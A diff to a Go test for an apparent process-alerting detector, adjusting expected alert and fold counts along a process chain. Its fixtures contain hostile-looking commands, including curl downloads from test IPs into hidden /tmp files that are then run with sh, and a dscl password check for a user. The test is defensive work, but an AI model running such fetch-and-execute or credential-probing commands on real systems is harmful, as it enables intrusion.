@@ -86,8 +86,8 @@ func TestOneAlertOfAChain(t *testing.T) {
 		alerts, folded uint64
 	}{
 		{started(200, 1, absent+"sh", "/tmp/.sync.sh"), 1, 0},                                                         // a hidden file: suspicious
-		{started(201, 200, absent+"dscl", ".", "-authonly", "ana", "x"), 1, 1},                                        // no worse by itself
-		{started(202, 200, absent+"sh", "-c", "curl -sk https://192.0.2.7/a -o /tmp/.b; sh /tmp/.b"), 2, 1},           // malicious: told again
+		{started(201, 200, absent+"dscl", ".", "-authonly", "ana", "x"), 2, 0},                                        // with what led to it, malicious: told again
+		{started(202, 200, absent+"sh", "-c", "curl -sk https://192.0.2.7/a -o /tmp/.b; sh /tmp/.b"), 2, 1},           // no worse: counted
 		{started(203, 200, absent+"sh", "-c", "curl -sk https://192.0.2.7/c -o /tmp/.c; sh /tmp/.c"), 2, 2},           // counted
 		{started(300, 1, absent+"git", "status"), 2, 2},                                                               // nobody's business
 		{started(400, 1, absent+"sh", "-c", "curl -sk https://192.0.2.9/other -o /tmp/.other; sh /tmp/.other"), 3, 2}, // another chain
